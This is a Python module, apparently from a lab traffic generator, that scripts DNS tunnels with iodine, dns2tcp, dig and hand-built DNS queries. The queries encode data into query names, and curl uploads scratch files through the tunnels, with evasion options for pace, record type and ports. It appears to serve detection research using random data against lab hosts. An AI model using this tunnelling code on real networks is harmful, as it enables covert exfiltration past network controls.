"""Tunnels through DNS, straight to the far end's name server or through the site's resolver."""

import base64
import socket
import struct

from attacks.way import Way
from services import lair as far
from services.naming import TUNNEL_ZONES

KINDS = {"A": 1, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28}


def resolver(act, number):
    """Who is asked. A resolver's own questions to the far end are the tunnel's as well."""
    zone, end = TUNNEL_ZONES[number], act.lair.more[number]
    if act.host.role == "client" or act.pick("path", ["direct", "resolver"]) == "direct":
        return zone, end
    site = act.recording.site
    act.relay(site, end)
    return zone, site.v4


def far_program(act, command, work, warm_up=0.7):
    """Runs the far end while `work()` lasts."""
    process = act.network.start(act.network.lair, command)
    try:
        if act.pause(warm_up):
            work()
    finally:
        act.end_all()
        act.network.stop(process)


def use(act, address, port, web=True):
    """What goes through a tunnel: pages, files up, a shell's small words; fast or slow."""
    pace = act.draw("period_s", 0.2, 3.0)
    for _ in act.every(pace, act.pick("jitter", [0, 0.3, 0.8])):
        words = ["curl", "-s", "-o", "/dev/null", "--max-time", "6", f"http://{address}:{port}/"]
        kind = act.rng.randrange(3)
        if kind == 0:
            words += ["-d", "@" + act.scratch(act.rng.choice([200, 3000, 20000]))]
            words[6] += "upload"
        else:
            words[6] += act.rng.choice(["tiny", "tiny", "page", "image"])
        act.run(words, 7)


def iodine(act):
    zone, at = resolver(act, far.IODINE)
    lair, net = act.network.lair, act.rng.randrange(1, 200)
    inner = f"100.64.{net}.1"
    kind = act.pick("record", ["NULL", "TXT", "CNAME", "MX", "PRIVATE", "SRV"])
    words = ["iodine", "-f", "-P", "pass", "-T", kind, "-r", *act.pick("evasion", [[], ["-M", "60"], ["-M", "120"], ["-L", "0"]]),
             "-I", act.pick("interval_s", [1, 4]), at, zone]

    def work():
        act.spawn(words)
        if act.pause(3):
            use(act, inner, lair.port["http"])

    far_program(act, ["iodined", "-f", "-c", "-P", "pass", "-l", lair.more[far.IODINE], f"{inner}/27", zone], work)


def dns2tcp(act, local=None, zone_end=None):
    zone, at = zone_end or resolver(act, far.DNS2TCP)
    lair, port = act.network.lair, act.rng.randrange(20000, 30000)
    conf = act.scratch_lines([f"listen = {lair.more[far.DNS2TCP]}", "port = 53", "user = nobody", "chroot = /run/lab/tmp",
                              f"domain = {TUNNEL_ZONES[far.DNS2TCP]}", f"resources = web:{lair.v4}:{lair.port['http']}"])
    words = ["dns2tcpc", "-z", zone, "-r", "web", "-l", port, "-t", "3", "-T", act.pick("record", ["TXT", "KEY"]), local or at]

    def work():
        act.command = " ".join(map(str, words))
        act.spawn(words)
        if act.pause(1):
            use(act, "127.0.0.1", port)

    far_program(act, ["dns2tcpd", "-F", "-f", conf], work)


def label(act, size):
    data = act.rng.randbytes(size)
    how = act.variant.setdefault("coding", act.rng.choice(["hex", "base32", "base64url"]))
    text = {"hex": data.hex(), "base32": base64.b32encode(data).decode().lower(),
            "base64url": base64.urlsafe_b64encode(data).decode()}[how].rstrip("=")
    return [text[at:at + 60] for at in range(0, len(text), 60)]


def own(act):
    """Data in names, data in answers: any record, length, pace; one port or a new one for each question."""
    zone, at = resolver(act, far.OURS)
    kind, size = act.pick("record", list(KINDS)), act.pick("bytes", [8, 24, 60, 110])
    kept = act.pick("ports", ["one", "many"]) == "one"
    client = act.udp()
    for _ in act.every(act.draw("period_s", 0.02, 4.0), act.pick("jitter", [0, 0.3, 0.9])):
        names = [part.encode() for part in [*label(act, size), *zone.split(".")]]
        text = b"".join(bytes([len(part)]) + part for part in names) + b"\0"
        if not kept:
            client.close()
            client = act.udp()
        client.sendto(act.rng.randbytes(2) + b"\x01\0\0\x01\0\0\0\0\0\0" + text + struct.pack("!HH", KINDS[kind], 1), (at, 53))
        try:
            client.recv(4096)
        except (TimeoutError, socket.timeout):
            pass
    client.close()


def dig(act):
    """A shell script: a question a line of the file."""
    zone, at = resolver(act, far.OURS)
    kind, size = act.pick("record", ["TXT", "A", "MX", "CNAME"]), act.pick("bytes", [12, 30, 80])
    for _ in act.every(act.draw("period_s", 0.05, 3.0), act.pick("jitter", [0, 0.5])):
        act.run(["dig", f"@{at}", "+tries=1", "+time=1", "+short", *act.rng.choice([[], ["+tcp"]]),
                 ".".join([*label(act, size), zone]), kind], 4)


F, LONG = "dns_tunnel", (12, 30)
CASES = [("iodine", iodine), ("dns2tcp", dns2tcp), ("ours", own), ("dig", dig)]
WAYS = [Way(F, tool, "tunnel", act, by=by, seconds=LONG) for tool, act in CASES for by in ("attacker", "client")
        if (tool, by) not in (("iodine", "client"),)]
TOOLS = {"iodine": "iodine", "dns2tcp": "dns2tcp", "dig": "bind9-dnsutils", "ours": "ours"}
